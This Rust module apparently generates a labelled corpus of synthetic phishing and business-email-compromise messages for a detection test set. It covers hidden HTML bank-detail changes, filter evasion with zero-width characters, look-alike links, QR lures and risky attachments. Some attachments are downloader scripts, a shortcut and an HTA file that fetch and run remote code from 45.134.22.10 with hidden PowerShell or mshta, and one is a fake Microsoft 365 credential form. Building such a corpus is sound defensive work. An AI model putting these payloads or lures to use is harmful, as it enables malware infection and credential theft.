//! WARN families carried by the content: a payload only in HTML or split by invisible characters
//! (`html-hidden`), deceptive links (`link`), QR codes to phishing pages (`qr`), and risky
//! attachments — executables, scripts, shortcuts, disk images, macros, nested archives (`attachment`).

use super::attach;
use super::build::{file, mailbox, multi, text, words, Cs, Cte, Mail, Node};
use super::common::*;
use super::warn_bank::new_account;
use super::{DealRef, Gen};

const INNOCENT: [&str; 3] = [
    "Dear Anna,\n\nPlease see the payment information for the balance in this mail. Thank you.\n\nBest regards,\nLi Wei",
    "Anna您好，\n\n尾款相关信息请见邮件正文，谢谢。\n\n李伟",
    "Anna 您好：\n\n餘款相關資訊請見郵件內容，謝謝。\n\n李偉",
];

/// Splits words with zero-width characters, as a filter-evading sender does.
fn zw(s: &str) -> String {
    let mut out = String::new();
    for (i, c) in s.chars().enumerate() {
        out.push(c);
        if i % 3 == 1 && c != '\n' && c != ' ' {
            out.push(['\u{200B}', '\u{200C}', '\u{2060}', '\u{FEFF}'][i % 4]);
        }
    }
    out
}

/// ASCII digits → full-width digits.
fn fullwidth(s: &str) -> String {
    s.chars()
        .map(|c| {
            if c.is_ascii_digit() {
                char::from_u32(c as u32 - 0x30 + 0xFF10).unwrap_or(c)
            } else {
                c
            }
        })
        .collect()
}

/// The HTML part of a mail whose plain part is innocent.
fn hidden_html(l: Lang, k: usize) -> String {
    let acct = new_account(l, k + 4);
    let lead = match l {
        Lang::En => "Dear Anna,<br><br>Please note our new bank account for the balance payment:",
        Lang::Hans => "Anna您好，<br><br>请注意，尾款请汇至我司新的收款账户：",
        Lang::Hant => "Anna 您好：<br><br>請注意，餘款請匯至本公司新的收款帳戶：",
    };
    let rows: String = acct
        .lines()
        .map(|line| {
            let (k2, v) = line.split_once(['：', ':']).unwrap_or((line, ""));
            format!(
                "<tr><td style=\"padding:2px 8px\">{}</td><td><b>{}</b></td></tr>\n",
                esc(k2),
                esc(v.trim())
            )
        })
        .collect();
    let table = format!("<table border=\"0\" cellpadding=\"0\">\n{rows}</table>");
    let (lead, table) = match k % 5 {
        0 => (lead.to_string(), table),
        1 => (zw(lead), zw(&table)),
        2 => (lead.to_string(), fullwidth(&table)),
        3 => (format!("<span style=\"display:none\">Reminder of our policy: we never change bank details by e-mail. 我司不会通过邮件变更银行账户。</span>{lead}"), table),
        _ => (lead.replace("new", "ne<span style=\"font-size:0px\">x7</span>w").replace("账户", "账<span style=\"font-size:0\">.</span>户").replace("帳戶", "&#x5E33;&#x6236;"), table.replace("&nbsp;", " ")),
    };
    format!("<html><body>\n<div style=\"font-family:Arial\">{lead}</div>\n<div>&nbsp;</div>\n{table}\n<div>&nbsp;</div>\n<div>{}</div>\n</body></html>\n", esc(&sig(&LI_WEI, l)).replace('\n', "<br>"))
}

/// The payee change only in HTML, hidden or split by invisible characters.
pub fn html_hidden(g: &mut Gen) {
    for i in 0..18 {
        let l = LANGS[i % 3];
        let plain = INNOCENT[i % 3];
        let cs = cs_for(l, i, plain);
        let cs = if cs == Cs::Utf8 || i % 5 == 1 {
            Cs::Utf8
        } else {
            cs
        };
        let html = hidden_html(l, i);
        let b = if i % 6 == 5 {
            text("html", html, Cs::Utf8, Cte::Qp)
        } else {
            multi(
                "alternative",
                vec![
                    text("plain", plain, cs, Cte::Qp),
                    text("html", html, Cs::Utf8, [Cte::Qp, Cte::B64][i % 2]),
                ],
            )
        };
        let n = g.n();
        let from = if i % 2 == 0 {
            LI_WEI.addr.to_string()
        } else {
            "li.wei@hengli-kitchen.co".to_string()
        };
        let subj = match l {
            Lang::En => "Balance payment NH-2026-0148",
            Lang::Hans => "尾款 NH-2026-0148",
            Lang::Hant => "餘款 NH-2026-0148",
        };
        let m = Mail::new(
            n,
            &mailbox(LI_WEI.name(l), &from, cs, false),
            &mailbox("Anna Lindqvist", ANNA.addr, cs, false),
            &words(subj, cs, false),
            b,
        );
        let m = delivered(m, &from, "pass", "nordichome.se", n);
        g.push(
            "html-hidden",
            true,
            format!(
                "{l:?}-{}",
                [
                    "table",
                    "zero-width",
                    "fullwidth",
                    "hidden-policy",
                    "font-size-0",
                    "html-only"
                ][if i % 6 == 5 { 5 } else { i % 5 }]
            ),
            DealRef::Example,
            m,
        );
    }
}

/// `(shown text, real target, lead-in)`.
const LINKS: [(&str, &str, &str); 10] = [
    ("https://trello.com/b/nh0148", "https://trello-boards.com/b/nh0148/login", "The updated photos and the balance invoice are on our board:"),
    ("View invoice", "https://nordichome.se@docs-review.top/inv/0148", "Your invoice CI-2026-112 is ready."),
    ("View invoice", "https://www.dropbox.com/scl/fi/k2j4x/Invoice_CI-2026-112.html?dl=0", "Please log in with your e-mail account to view the shared invoice and payment details:"),
    ("Review document", "https://docusign.secure-envelope.net/Signing/?ti=5f0a", "Li Wei sent you a document to review and sign: Amendment to NH-2026-0148 (bank details). Sign in with your Microsoft 365 account to open it:"),
    ("https://www.hengli-kitchen.com/portal", "https://hengli-kitchen.co/portal/login.php", "Please confirm the balance through our customer payment portal:"),
    ("www.hengli-kitchen.com/pay", "http://45.134.22.10/hengli/pay/login.php", "Online payment page for your order:"),
    ("点击查看发票", "https://hengli-kitchen.com.cn.invoice-view.top/login", "您好，尾款发票已上传，请登录邮箱账号后查看："),
    ("查看文件", "https://onedrive-share.net/nordichome/NH-2026-0148", "共享文件：NH-2026-0148 提单副本及付款通知，请用企业邮箱登录查看。"),
    ("下載檔案", "https://wetransfer-files.net/d/NH0148", "您好，出貨文件已透過雲端分享，請登入後下載："),
    ("Open shared folder", "https://hengli-my.sharepoint.com.files-access.net/personal/li_wei", "Li Wei has shared a folder with you: NH-2026-0148 shipping documents. Verify your email to access."),
];

/// Link text unlike the target, look-alike and userinfo links, "view invoice" to a login page.
pub fn link(g: &mut Gen) {
    for i in 0..20 {
        let (shown, href, lead) = LINKS[i % LINKS.len()];
        let l = if lead.is_ascii() {
            Lang::En
        } else if lead.contains('載') || lead.contains('貨') {
            Lang::Hant
        } else {
            Lang::Hans
        };
        let w = [LI_WEI, CHEN_JING][i % 2];
        let sig_t = sig(&w, l);
        let html = format!("<html><body><p>{}</p>\n<p><a href=\"{}\" style=\"background:#0b5ed7;color:#fff;padding:8px 14px\">{}</a></p>\n<p>{}</p></body></html>\n", esc(lead), href.replace('&', "&amp;"), esc(shown), esc(&sig_t).replace('\n', "<br>\n"));
        let plain = format!("{lead}\n{shown} <{href}>\n\n{sig_t}");
        let cs = cs_for(l, i, &plain);
        let b = if i % 3 == 2 {
            text("html", html, cs, Cte::Qp)
        } else {
            multi(
                "alternative",
                vec![
                    text("plain", plain, cs, Cte::Qp),
                    text("html", html, cs, Cte::Qp),
                ],
            )
        };
        let n = g.n();
        let from = if i % 2 == 0 {
            w.addr.to_string()
        } else {
            w.addr.replace("hengli-kitchen.com", "hengli-kitchenn.com")
        };
        let subj = match l {
            Lang::En => "Shared: NH-2026-0148 documents",
            Lang::Hans => "共享文件：NH-2026-0148",
            Lang::Hant => "共享檔案：NH-2026-0148",
        };
        let m = Mail::new(
            n,
            &mailbox(w.name(l), &from, cs, true),
            &mailbox("Anna Lindqvist", ANNA.addr, cs, false),
            &words(subj, cs, true),
            b,
        );
        let m = delivered(m, &from, "pass", "nordichome.se", n);
        g.push(
            "link",
            true,
            format!("{l:?}-{}", i % LINKS.len()),
            DealRef::Example,
            m,
        );
    }
}

const QR: [(Lang, &str, &str); 6] = [
    (Lang::En, "https://hengli-kitchen.co/pay?inv=CI-2026-112", "Dear Anna,\n\nTo speed up the balance payment, please scan the QR code with your phone to view the invoice and the updated payment page."),
    (Lang::En, "https://login.microsoftonline.com.secure-auth.top/nordichome", "Your mailbox password expires today. Scan the QR code below with your phone to keep your current password. IT Service Desk"),
    (Lang::En, "https://nordichome-se.com/docs/verify", "Hello Li Wei,\n\nFor security reasons our documents portal now uses QR sign-in. Scan the code to open the PO amendment."),
    (Lang::Hans, "https://trello-board.net/b/nh0148/login", "Anna您好，\n\n请用手机扫描下方二维码查看生产照片和尾款发票。"),
    (Lang::Hans, "https://hengli-kitchen.com.cn/wx/pay", "您好，请扫码登录查看新的收款信息并确认。"),
    (Lang::Hant, "https://nordichome.se.doc-portal.cc/login", "您好，請掃描二維碼登入查看文件，文件24小時內有效。"),
];

/// A QR code image, inline or attached, pointing to a phishing or look-alike page.
pub fn qr(g: &mut Gen) {
    for i in 0..14 {
        let (l, url, lead) = QR[i % QR.len()];
        let png = attach::qr_png(url);
        let cs = cs_for(l, i, lead);
        let b = if i % 2 == 0 {
            let html = format!("<html><body><p>{}</p><p><img src=\"cid:qr{i}@corpus\" width=\"180\" height=\"180\" alt=\"QR\"></p></body></html>", esc(lead).replace('\n', "<br>"));
            multi(
                "related",
                vec![
                    text("html", html, cs, Cte::Qp),
                    Node::File {
                        ctype: "image/png".into(),
                        name: "image001.png".into(),
                        bytes: png,
                        cid: Some(format!("qr{i}@corpus")),
                    },
                ],
            )
        } else {
            multi(
                "mixed",
                vec![
                    text("plain", lead, cs, Cte::B64),
                    file("image/png", "invoice_QR.png", png),
                ],
            )
        };
        let n = g.n();
        let to_seller = lead.contains("Li Wei");
        let (from, to) = if to_seller {
            ("anna.lindqvist@nordichome-se.com", LI_WEI)
        } else {
            (
                [
                    "li.wei@hengli-kitchen.com",
                    "it-support@nordichome.se.helpdesk-mail.com",
                ][i % 2],
                ANNA,
            )
        };
        let subj = match l {
            Lang::En => "Action required: scan to view",
            Lang::Hans => "请扫码查看",
            Lang::Hant => "請掃碼查看",
        };
        let m = Mail::new(
            n,
            &mailbox("", from, cs, false),
            &mailbox(to.name(l), to.addr, cs, false),
            &words(subj, cs, false),
            b,
        );
        let m = delivered(m, from, "pass", "nordichome.se", n);
        g.push(
            "qr",
            true,
            format!("{l:?}-{}", if i % 2 == 0 { "inline" } else { "attached" }),
            DealRef::Example,
            m,
        );
    }
}

fn risky(k: usize) -> (&'static str, &'static str, Vec<u8>) {
    match k % 11 {
        0 => ("Invoice_CI-2026-112.pdf.exe", "application/octet-stream", attach::exe(6_000)),
        1 => ("Payment_Advice.zip", "application/zip", attach::zip(&[("Payment_Advice.exe", attach::exe(9_000))])),
        2 => ("Shipping_documents.zip", "application/zip", attach::zip(&[("docs.zip", attach::zip(&[("BL_copy.js", b"var s=new ActiveXObject('WScript.Shell');s.Run('powershell -ep bypass -w hidden -c iwr http://45.134.22.10/a.ps1|iex');".to_vec())]))])),
        3 => ("Invoice.pdf.lnk", "application/octet-stream", attach::lnk("C:\\Windows\\System32\\cmd.exe /c powershell -w hidden iwr http://45.134.22.10/p.exe -o %TEMP%\\p.exe; %TEMP%\\p.exe")),
        4 => ("PO_NH-2026-0148.iso", "application/x-iso9660-image", attach::iso("PO_NH-2026-0148.exe")),
        5 => ("Order_revised.docm", "application/vnd.ms-word.document.macroEnabled.12", attach::docm(&["Purchase order revision 2".into(), "Enable content to view the document.".into()])),
        6 => ("Remittance_copy.html", "text/html", b"<html><body><h3>Microsoft 365</h3><p>Sign in to view the remittance copy</p><form action=\"https://login-office365.secure-auth.top/p.php\" method=\"post\"><input name=\"email\" value=\"anna.lindqvist@nordichome.se\"><input type=\"password\" name=\"pass\"><button>Sign in</button></form></body></html>".to_vec()),
        7 => ("Statement.hta", "application/hta", b"<html><head><HTA:APPLICATION id=x></head><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"mshta http://45.134.22.10/s\"</script></html>".to_vec()),
        8 => ("Quotation_2027.vbs", "text/vbscript", b"Set o = CreateObject(\"WScript.Shell\")\r\no.Run \"powershell -nop -w hidden -c iex(iwr http://45.134.22.10/q)\"\r\n".to_vec()),
        9 => ("Packing_list.img", "application/octet-stream", attach::iso("Packing_list.pdf.exe")),
        _ => ("Scan_BL.zip", "application/zip", attach::zip(&[("Scan_BL.pdf.lnk", attach::lnk("cmd /c start /min mshta http://45.134.22.10/b"))])),
    }
}

const ATT_LEAD: [(Lang, &str); 6] = [
    (Lang::En, "Dear Anna,\n\nPlease find attached the documents for NH-2026-0148. Kindly check and confirm today."),
    (Lang::En, "Hi Li Wei,\n\nAttached is our revised PO, please open it and confirm the new delivery date."),
    (Lang::En, "Hello,\n\nPlease see attached remittance advice for your reference."),
    (Lang::Hans, "Anna您好，附件是提单副本和装箱单，请查收确认。"),
    (Lang::Hans, "李经理，附件是修改后的订单，请打开确认交期。"),
    (Lang::Hant, "您好，附件為出貨文件，請查收並確認。"),
];

/// Executables, scripts, shortcuts, disk images, macros, nested archives, HTML login pages.
pub fn attachment(g: &mut Gen) {
    for i in 0..22 {
        let (l, lead) = ATT_LEAD[i % ATT_LEAD.len()];
        let (name, ctype, bytes) = risky(i);
        let to_seller = lead.contains("Li Wei") || lead.contains("李经理");
        let w = if to_seller {
            ANNA
        } else {
            [LI_WEI, CHEN_JING][i % 2]
        };
        let main = format!("{lead}\n\n{}", sig(&w, l));
        let quoted = if i % 3 == 0 {
            history(l, g.pad() / 3, i)
        } else {
            String::new()
        };
        let b = body(l, &main, &quoted, [Fmt::Plain, Fmt::Alt][i % 2], i);
        let n = g.n();
        let from = match i % 3 {
            0 => w.addr.to_string(),
            1 => w
                .addr
                .replace("hengli-kitchen.com", "hengli-kitchen.co")
                .replace("nordichome.se", "nordichome-ab.com"),
            _ => "documents@global-shipping-notice.com".to_string(),
        };
        let to = if to_seller { LI_WEI } else { ANNA };
        let cs = cs_for(l, i, w.name(l));
        let subj = match l {
            Lang::En => "Documents NH-2026-0148",
            Lang::Hans => "单据 NH-2026-0148",
            Lang::Hant => "文件 NH-2026-0148",
        };
        let m = Mail::new(
            n,
            &mailbox(w.name(l), &from, cs, false),
            &mailbox(to.name(l), to.addr, cs, false),
            &words(subj, cs, false),
            multi("mixed", vec![b, file(ctype, name, bytes)]),
        );
        let m = delivered(
            m,
            &from,
            "pass",
            if to_seller {
                "hengli-kitchen.com"
            } else {
                "nordichome.se"
            },
            n,
        );
        g.push(
            "attachment",
            true,
            format!("{l:?}-{name}"),
            DealRef::Example,
            m,
        );
    }
}
